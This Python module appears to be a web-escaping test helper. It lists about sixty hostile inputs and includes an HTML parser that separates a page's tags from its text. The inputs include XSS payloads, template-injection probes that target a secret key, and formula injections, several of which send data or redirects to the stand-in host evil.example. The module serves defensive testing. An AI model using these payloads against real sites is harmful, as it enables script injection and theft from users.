"""Sixty texts that somebody could type to break a page, and what a page is made of."""

from collections import Counter
from functools import lru_cache
from html.parser import HTMLParser
from typing import override
from urllib.parse import parse_qsl, urlsplit

MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'/>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>click</a>",
    "<form action=//evil.example><input name=csrfmiddlewaretoken>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<!-- <b>unfinished",
    "<![CDATA[<b>bold</b>]]>",
    "<?xml version='1.0'?><b>bold</b>",
    "<b",
    "</p></section></main></body></html>",
    "<textarea></textarea><b>out</b>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</option></select><b>out</b>",
    "<plaintext>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
]
ATTRIBUTES = [
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" autofocus onfocus=alert(1) x="',
    "` onmouseover=alert(1)",
    '"/><b>out</b>',
    "&quot; onclick=&quot;alert(1)",
    "&#34;&gt;&#60;script&#62;alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;b&amp;gt;",
    "javascript:alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
]
TEMPLATES = [
    "{{ request.user }}",
    "{% debug %}",
    "{% load static %}{{ settings.SECRET_KEY }}",
    "{% extends 'web/base.html' %}",
    "{0.__class__} {field} %s %(name)s",
    "${7*7} #{7*7} <%= 7*7 %>",
    "_('x')|safe {# a note #}",
]
LETTERS = [
    "left\u202eright\u202c\u2066inside\u2069",
    "zero\u200bwidth\u2060joined\ufeff",
    "a\u0300\u0301\u0302\u0303\u0304 zalgo \u0489\u0489\u0489",
    "\u0410\u0435\u0456 looks like Aei",
    "nul\x00bell\x07escape\x1b[31m",
    "two\nlines\r\nand\ttabs",
    "\U0001f469\u200d\U0001f680 \U0001f1fa\U0001f1e6 \u6f22\u5b57 \u0627\u0644\u0639",
]
FORMULAS = ['=HYPERLINK("//evil.example")', "+1+1", "-2+3", "@SUM(A1:A9)"]

PAYLOADS = [*MARKUP, *ATTRIBUTES, *TEMPLATES, *LETTERS, *FORMULAS]
SPOKEN = {"value", "title", "aria-label", "alt", "placeholder", "content"}
"""Attributes that may hold what somebody typed; all others belong to the house."""


class Bones(HTMLParser):
    """The skeleton of a page: its elements and attributes, and apart from them its words."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.bones: list[str] = []
        self.words: list[str] = []
        self.depth: Counter[str] = Counter()
        self.feed(page)
        self.close()

    @override
    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.depth[tag] += 1
        given = []
        for name, value in attrs:
            spoken = name in SPOKEN and not (tag == "meta" or (name == "value" and tag == "button"))
            given.append(name if spoken else f"{name}={_place(value or '')}")
            if spoken:
                self.words.append(value or "")
        self.bones.append(f"<{tag} {' '.join(given)}>")

    @override
    def handle_endtag(self, tag: str) -> None:
        self.bones.append(f"</{tag}>")

    @override
    def handle_data(self, data: str) -> None:
        self.words.append(data)

    @override
    def handle_comment(self, data: str) -> None:
        self.bones.append("<!-- a comment -->")

    @override
    def handle_pi(self, data: str) -> None:
        self.bones.append("<? an instruction ?>")

    @override
    def unknown_decl(self, data: str) -> None:
        self.bones.append("<! a declaration >")

    @override
    def updatepos(self, i: int, j: int) -> int:
        """Count no lines: nobody asks where a bone lies, and it takes a tenth of the time."""
        return j

    @property
    def text(self) -> str:
        """All words that a person reads, or hears."""
        return "\n".join(self.words)


@lru_cache(maxsize=2048)
def _read(page: str) -> Bones:
    return Bones(page)


def bones(page: str) -> tuple[str, ...]:
    """Return the bones of a panel; many a panel is the same in several rooms, and read once."""
    return tuple(_read(page).bones)


def words(page: str) -> str:
    """Return all words of a panel."""
    return _read(page).text


def _place(value: str) -> str:
    """Return an attribute; of an address that carries an answer, without what it says."""
    answers = ("warm-up?", "drawn.svg?")
    parts = urlsplit(value) if value.startswith(answers) else None
    if parts is None:
        return value
    return f"{parts.path}?{'&'.join(name for name, _ in parse_qsl(parts.query))}"
